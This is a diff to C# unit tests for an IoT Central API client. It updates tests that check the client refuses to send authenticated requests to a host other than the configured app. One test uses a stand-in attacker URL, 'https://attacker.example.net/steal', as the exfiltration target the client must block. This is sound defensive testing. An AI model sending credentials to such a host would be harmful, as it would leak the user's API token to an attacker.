@@ -51,10 +51,12 @@ public class PagingTests
         var handler = FakeHandler.Sequence(() => FakeHandler.Json(HttpStatusCode.OK, """{"value":[]}"""));
         using var client = TestClients.WithApiToken(handler, url: app);
 
-        var error = await Assert.ThrowsAsync<InvalidOperationException>(
+        var error = await Assert.ThrowsAsync<IoTCentral.Models.IoTCentralException>(
             () => client.Devices.ListAsync(nextLink.Replace("{host}", app.Host), CancellationToken.None));
 
         Assert.Contains("Refusing to send", error.Message);
+        Assert.Equal("RequestToOtherHost", error.ErrorCode);
+        Assert.Equal(0, error.Status);
         Assert.Empty(handler.Requests);
     }
 
@@ -64,8 +66,9 @@ public class PagingTests
         var handler = FakeHandler.Sequence(() => FakeHandler.Json(HttpStatusCode.OK, "{}"));
         using var client = TestClients.WithApiToken(handler);
 
-        await Assert.ThrowsAsync<InvalidOperationException>(
+        var error = await Assert.ThrowsAsync<IoTCentral.Models.IoTCentralException>(
             () => client.SendAsync("GET", "https://attacker.example.net/steal", null, null, null, CancellationToken.None));
+        Assert.Equal("RequestToOtherHost", error.ErrorCode);
 
         Assert.Empty(handler.Requests);
     }
